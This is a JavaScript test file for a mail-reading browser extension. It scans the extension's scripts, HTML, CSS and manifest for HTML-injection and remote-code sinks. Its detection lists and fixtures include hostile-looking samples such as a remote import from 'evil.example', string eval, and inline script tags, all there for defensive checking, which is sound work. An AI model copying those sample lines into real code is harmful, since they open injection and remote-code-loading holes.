// Text from a mail must never be parsed as HTML or code: no markup sinks, no eval,
// no remote scripts or resources anywhere in extension/.
import { test } from "node:test";
import assert from "node:assert/strict";

import { sources } from "./source-files.mjs";

const JS_SINKS = [
  [/\.innerHTML\b/, "innerHTML"],
  [/\.outerHTML\s*=/, "outerHTML assignment"],
  [/\binsertAdjacentHTML\b/, "insertAdjacentHTML"],
  [/\bdocument\.write(ln)?\s*\(/, "document.write"],
  [/\bcreateContextualFragment\b/, "createContextualFragment"],
  [/\bDOMParser\b/, "DOMParser"],
  [/\bsrcdoc\b/, "srcdoc"],
  [/(^|[^.\w])eval\s*\(/, "eval"],
  [/\bnew\s+Function\b/, "new Function"],
  [/\bset(Timeout|Interval)\s*\(\s*["'`]/, "string timer"],
  [/\bimport\s*\(\s*["'`]https?:/, "remote import"],
  [/\bfrom\s+["'`]https?:/, "remote import"],
  [/\bsetAttribute\s*\(\s*["'`]on/i, "event-handler attribute"],
  [/\.setHTML(Unsafe)?\b/, "setHTML"],
];

const HTML_SINKS = [
  [/<script(?![^>]*\bsrc=)[^>]*>/i, "inline script"],
  [/<script[^>]*\bsrc\s*=\s*["']?(https?:)?\/\//i, "remote script"],
  [/\son[a-z]+\s*=/i, "inline event handler"],
  [/<(link|img|iframe|object|embed)[^>]*(href|src)\s*=\s*["']?(https?:)?\/\//i, "remote resource"],
  [/javascript:/i, "javascript: URL"],
];

const CSS_SINKS = [
  [/url\(\s*["']?(https?:)?\/\//i, "remote url()"],
  [/@import/i, "@import"],
  [/expression\s*\(/i, "CSS expression"],
];

export function findSinks(text, rules) {
  const hits = [];
  text.split("\n").forEach((line, i) => {
    for (const [re, name] of rules) if (re.test(line)) hits.push(`${i + 1}: ${name}: ${line.trim()}`);
  });
  return hits;
}

test("the scanner itself finds what it must find", () => {
  const bad = [
    "el.innerHTML = x;",
    "el.outerHTML = x;",
    "el.insertAdjacentHTML('beforeend', x);",
    "document.write(x);",
    "eval(x);",
    "const f = new Function('return 1');",
    "setTimeout('alert(1)', 1);",
    "import('https://evil.example/x.js');",
    "node.setAttribute('onclick', x);",
  ];
  for (const line of bad) assert.ok(findSinks(line, JS_SINKS).length > 0, `flags: ${line}`);
  const good = ["el.textContent = x;", "retrieval(x);", "const evaluate = 1;", "setTimeout(() => {}, 1);"];
  for (const line of good) assert.deepEqual(findSinks(line, JS_SINKS), [], `allows: ${line}`);
  assert.ok(findSinks('<img src="https://x/y.png">', HTML_SINKS).length > 0);
  assert.ok(findSinks('<button onclick="x()">', HTML_SINKS).length > 0);
  assert.ok(findSinks("<script>alert(1)</script>", HTML_SINKS).length > 0);
  assert.deepEqual(findSinks('<script type="module" src="popup.js"></script>', HTML_SINKS), []);
  assert.ok(findSinks("a { background: url(https://x/y.png) }", CSS_SINKS).length > 0);
});

test("no HTML/code sinks in the extension's JavaScript", async () => {
  const files = await sources([".js", ".mjs"]);
  assert.ok(files.length >= 8, "scanned the scripts");
  const hits = files.flatMap(({ file, text }) => findSinks(text, JS_SINKS).map((h) => `${file}:${h}`));
  assert.deepEqual(hits, []);
});

test("no inline or remote scripts, handlers or resources in the extension's HTML", async () => {
  const files = await sources([".html"]);
  assert.ok(files.length >= 2);
  const hits = files.flatMap(({ file, text }) => findSinks(text, HTML_SINKS).map((h) => `${file}:${h}`));
  assert.deepEqual(hits, []);
});

test("no remote resources in the extension's CSS", async () => {
  const files = await sources([".css"]);
  const hits = files.flatMap(({ file, text }) => findSinks(text, CSS_SINKS).map((h) => `${file}:${h}`));
  assert.deepEqual(hits, []);
});

test("the manifest sets no looser content security policy and no remote code", async () => {
  const [manifest] = (await sources([".json"])).filter((f) => f.file === "manifest.json");
  const m = JSON.parse(manifest.text);
  assert.equal(m.content_security_policy, undefined, "default MV3 CSP: script-src 'self'");
  assert.ok(!/https?:\/\//.test(manifest.text), "no URLs at all in the manifest");
});
